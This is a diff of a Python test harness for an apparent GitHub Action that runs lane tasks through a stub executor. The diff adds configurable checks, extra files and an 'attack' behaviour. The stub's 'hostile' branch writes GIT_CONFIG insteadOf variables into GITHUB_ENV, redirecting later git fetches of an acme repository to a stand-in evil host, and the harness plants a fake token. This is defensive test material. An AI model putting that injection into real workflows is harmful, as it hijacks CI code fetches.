@@ -92,6 +92,8 @@ if behaviour == "hostile":  # goes for the steps of its job that run after it (A
     with open(files["GITHUB_ENV"], "a") as github_env:
         github_env.write(f"GIT_CONFIG_COUNT=1\\nGIT_CONFIG_KEY_0=url.{evil}/.insteadOf\\n"
                          "GIT_CONFIG_VALUE_0=https://github.com/acme/\\n")
+if behaviour == "attack":  # a lane-written script its check runs at integration (issue 20)
+    shutil.copy("tools/attack.py", f"{task}_attack.py")
 pathlib.Path(f"{task}.txt").write_text("wrong\\n" if behaviour == "fail" else f"{task}\\n")
 '''
 
@@ -162,9 +164,20 @@ class ActWorld:
         return self.host.root / REPO
 
     # -- arranging ---------------------------------------------------------------------------
-    def create(self, tasks: Mapping[str, list[str]], slug: str, *, local: bool = True) -> None:
+    def create(
+        self,
+        tasks: Mapping[str, list[str]],
+        slug: str,
+        *,
+        local: bool = True,
+        checks: Mapping[str, str] | None = None,
+        config: str = "",
+        files: Mapping[str, str] | None = None,
+    ) -> None:
         """The repository with the shipped action and workflows, a config naming the e2e
-        executor, and (when `local`) the initiative in docs/initiatives/."""
+        executor (and `config`'s lines), and (when `local`) the initiative in docs/initiatives/.
+        `checks`: a task's descriptor instead of the default file check (its scope then takes
+        `<task>_*.py` too); `files`: more files of the base."""
         self.spy.mkdir(parents=True)
         self.bare.parent.mkdir(parents=True)
         self._git(self.host.root, "init", "-q", "--bare", "-b", "main", str(self.bare))
@@ -179,11 +192,13 @@ class ActWorld:
             else:
                 target.parent.mkdir(parents=True, exist_ok=True)
                 shutil.copy2(source, target)
-        files = initiative_files(slug, tasks, self._intents(tasks))
+        more = dict(files or {})
+        files = initiative_files(slug, tasks, self._intents(tasks, checks or {}))
         if not local:
             files = {k: v for k, v in files.items() if not k.startswith("docs/initiatives/")}
-        files[".github/imm.yml"] = CONFIG
+        files[".github/imm.yml"] = CONFIG + config
         files["tools/executor.py"] = EXECUTOR
+        files.update(more)
         for relative, content in files.items():
             path = self.work / relative
             path.parent.mkdir(parents=True, exist_ok=True)
@@ -196,12 +211,15 @@ class ActWorld:
         (self.root / "empty").write_text("")
         (self.root / "secrets").write_text(f"GITHUB_TOKEN={TOKEN}\n")
 
-    def _intents(self, tasks: Mapping[str, list[str]]) -> dict[str, dict[str, Any]]:
+    def _intents(
+        self, tasks: Mapping[str, list[str]], checks: Mapping[str, str]
+    ) -> dict[str, dict[str, Any]]:
         intents = {}
         for task in tasks:
-            check = file_check(f"{task}.txt", task)
+            check = checks.get(task) or file_check(f"{task}.txt", task)
             acceptance = [{"id": "ok", "assertion": f"names {task}", "verification": check}]
-            intents[task] = intent(task, scope_hint=[f"{task}.txt"], acceptance=acceptance)
+            scope = [f"{task}.txt", f"{task}_*.py"] if task in checks else [f"{task}.txt"]
+            intents[task] = intent(task, scope_hint=scope, acceptance=acceptance)
         return intents
 
     def _write_gitconfig(self) -> None:
